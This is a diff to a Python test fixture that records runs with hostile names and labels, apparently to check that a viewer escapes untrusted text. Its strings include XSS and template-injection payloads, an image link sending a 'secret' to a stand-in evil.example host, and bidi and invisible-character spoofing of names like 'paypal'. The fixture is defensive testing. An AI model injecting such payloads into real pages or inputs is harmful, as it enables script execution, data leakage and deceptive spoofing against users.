@@ -22,12 +22,12 @@ TEXTS: Final = {
     "link": "[click](javascript:alert('link')) ![image](http://evil.example/?q=secret)",
     "attribute": '" onfocus="alert(\'attribute\')" autofocus x="',
     "template": "${alert('template')} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
-    "bidi": "user\u202e\u2066 gnp.exe \u2069\u2066 admin\u2069",
-    "invisible": "pay\u200b\u2060\ufeffpal \u00ad\u061c",
+    "bidi": "user\u202e\u2066 gnp.exe \u2069\u2066 admin\u2069 \u202c",
+    "invisible": "pay\u200b\u2060\ufeffpal \u00ad\u061c\U000e0041",
     "nul": "before\x00after \x1b[31mred\x1b[0m \x07",
     "surrogate": "\ud800 broken \udfff",
     "proto": "__proto__ constructor prototype toString",
-    "zalgo": "z" + "\u0335\u0321\u0489" * 200,
+    "zalgo": "z" + "\u0335\u0321\u0489" * 200 + "x" * 50_000,
 }
 
 MISSES: Final = ("replay-hostile-1", "replay-hostile-2")
@@ -86,7 +86,7 @@ def crowded_exchanges(run: str) -> list[Exchange]:
 
 
 async def record_hostile_runs(server: PageServer, project: str) -> dict[str, str]:
-    """Record the runs, with hostile names and labels; return the id of one call of each."""
+    """Record the runs, with hostile names and labels; return the id of one call of each, of a tool call whose answer is broken, and of a call that failed."""
     writer = BatchWriter(server.database, project=project, profile=PROFILES.digest, signal=server.house.signal)
     runs = Runs(server.database, project)
     made = {
@@ -114,4 +114,5 @@ async def record_hostile_runs(server: PageServer, project: str) -> dict[str, str
     for name, part in zip(MISSES, (missed[:14], missed[14:]), strict=True):
         await store_report(server, name, part, lambda text: f"{text} {TEXTS['script']}", project)
     await server.house.followers.wait_until_caught_up()
-    return {name: exchanges[0].id for name, exchanges in made.items()}
+    places = {"hostile-tool": made["hostile"][1].id, "hostile-failed": made["hostile"][-1].id}
+    return {name: exchanges[0].id for name, exchanges in made.items()} | places
